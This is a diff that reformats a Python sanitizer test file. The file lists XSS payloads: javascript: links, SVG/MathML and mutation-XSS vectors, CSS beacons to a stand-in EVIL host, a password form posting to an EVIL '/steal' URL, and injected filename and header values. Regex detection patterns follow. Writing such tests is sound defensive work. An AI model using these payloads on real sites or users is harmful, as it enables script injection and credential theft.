@@ -25,26 +25,50 @@ HTML_PAYLOADS: list[tuple[str, str]] = [
     ("js-href-case", '<a href="JaVaScRiPt:alert(1)">click</a>'),
     ("js-href-tab-entity", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
     ("js-href-newline", '<a href="java\nscript:alert(1)">click</a>'),
-    ("js-href-decimal-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'),
+    (
+        "js-href-decimal-entities",
+        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
+    ),
     ("js-href-leading-space", '<a href=" &#14;  javascript:alert(1)">click</a>'),
     ("vbscript-href", '<a href="vbscript:msgbox(1)">click</a>'),
     ("data-html-href", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">click</a>'),
-    ("svg-animate", '<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>'),
-    ("svg-set", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x=20 y=20>click</text></a></svg>'),
-    ("svg-animate-href", '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'),
+    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>"),
+    (
+        "svg-set",
+        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x=20 y=20>click</text></a></svg>',
+    ),
+    (
+        "svg-animate-href",
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
+    ),
     ("svg-script", '<svg><script href="data:,alert(1)"/></svg>'),
-    ("mathml-href", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK</maction></math>'),
-    ("mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
+    (
+        "mathml-href",
+        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK</maction></math>',
+    ),
+    (
+        "mathml-mxss",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    ),
     ("css-import", f"<style>@import 'https://{EVIL}/x.css';</style><p>styled</p>"),
     ("css-url", f'<div style="background:url(https://{EVIL}/x.png)">bg</div>'),
     ("css-var", f'<div style="--x:url(https://{EVIL}/v.png);background-image:var(--x)">var</div>'),
-    ("css-position-fixed", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">overlay</div>'),
-    ("css-expression-binding", f'<div style="width:expression(alert(1));-moz-binding:url(https://{EVIL}/x.xml#x);behavior:url(x.htc)">b</div>'),
+    (
+        "css-position-fixed",
+        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">overlay</div>',
+    ),
+    (
+        "css-expression-binding",
+        f'<div style="width:expression(alert(1));-moz-binding:url(https://{EVIL}/x.xml#x);behavior:url(x.htc)">b</div>',
+    ),
     ("css-image-set", f"<p style=\"background-image:image-set('https://{EVIL}/x.png' 1x)\">set</p>"),
     ("base", f'<base href="https://{EVIL}/"><a href="x">relative</a>'),
     ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">'),
     ("link-stylesheet", f'<link rel="stylesheet" href="https://{EVIL}/x.css">'),
-    ("form", f'<form action="https://{EVIL}/steal" method="post"><input name="password" type="password"><button>Log in</button></form>'),
+    (
+        "form",
+        f'<form action="https://{EVIL}/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
+    ),
     ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
     ("textarea-mxss", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
     ("comment-mxss", '<!--<img src="--><img src=x onerror=alert(1)//">'),
@@ -54,7 +78,10 @@ HTML_PAYLOADS: list[tuple[str, str]] = [
     ("img-svg-data", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">'),
     ("remote-image", f'<img src="https://{EVIL}/track.gif" alt="tracker">'),
     ("img-srcset", f'<img srcset="https://{EVIL}/1x.png 1x" src="https://{EVIL}/0.png">'),
-    ("table-background", f'<table background="https://{EVIL}/t.png"><tr><td background="javascript:alert(1)">t</td></tr></table>'),
+    (
+        "table-background",
+        f'<table background="https://{EVIL}/t.png"><tr><td background="javascript:alert(1)">t</td></tr></table>',
+    ),
     ("isindex", "<isindex action=javascript:alert(1) type=image>"),
     ("xmp", "<xmp><script>alert(1)</script></xmp>"),
     ("template", "<template><img src=x onerror=alert(1)></template>"),
@@ -66,10 +93,17 @@ HEADER_PAYLOADS: list[tuple[str, dict]] = [
     ("display-name", {"sender": '"<img src=x onerror=alert(3)>" <evil@example.org>'}),
     (
         "filename",
-        {"attachments": [('"><img src=x onerror=alert(4)>.pdf', "application/pdf", b"%PDF-1.4"),
-                         ("<script>alert(5)</script>.html", "text/html", b"<script>alert(6)</script>")]},
+        {
+            "attachments": [
+                ('"><img src=x onerror=alert(4)>.pdf', "application/pdf", b"%PDF-1.4"),
+                ("<script>alert(5)</script>.html", "text/html", b"<script>alert(6)</script>"),
+            ]
+        },
     ),
-    ("plain-text", {"text": "<script>alert(7)</script> javascript:alert(8) https://ok.example/\"onmouseover=alert(9)"}),
+    (
+        "plain-text",
+        {"text": '<script>alert(7)</script> javascript:alert(8) https://ok.example/"onmouseover=alert(9)'},
+    ),
 ]
 
 
@@ -95,10 +129,16 @@ def frame_body(html: str) -> str:
 
 
 DANGEROUS = [
-    re.compile(r"<\s*(script|svg|math|iframe|object|embed|form|input|button|base|meta|link|style|textarea|noscript|template|xmp|isindex|video|audio|details)\b", re.I),
+    re.compile(
+        r"<\s*(script|svg|math|iframe|object|embed|form|input|button|base|meta|link|style|textarea|noscript|template|xmp|isindex|video|audio|details)\b",
+        re.I,
+    ),
     re.compile(r"\son[a-z]+\s*=", re.I),
     re.compile(r"(href|src|action|background|srcset)\s*=\s*[\"']?\s*(javascript|vbscript|data:text)", re.I),
-    re.compile(r"url\s*\(|var\s*\(|expression\s*\(|image-set|@import|position\s*:\s*fixed|-moz-binding|behavior", re.I),
+    re.compile(
+        r"url\s*\(|var\s*\(|expression\s*\(|image-set|@import|position\s*:\s*fixed|-moz-binding|behavior",
+        re.I,
+    ),
     re.compile(re.escape(EVIL)),
 ]
 
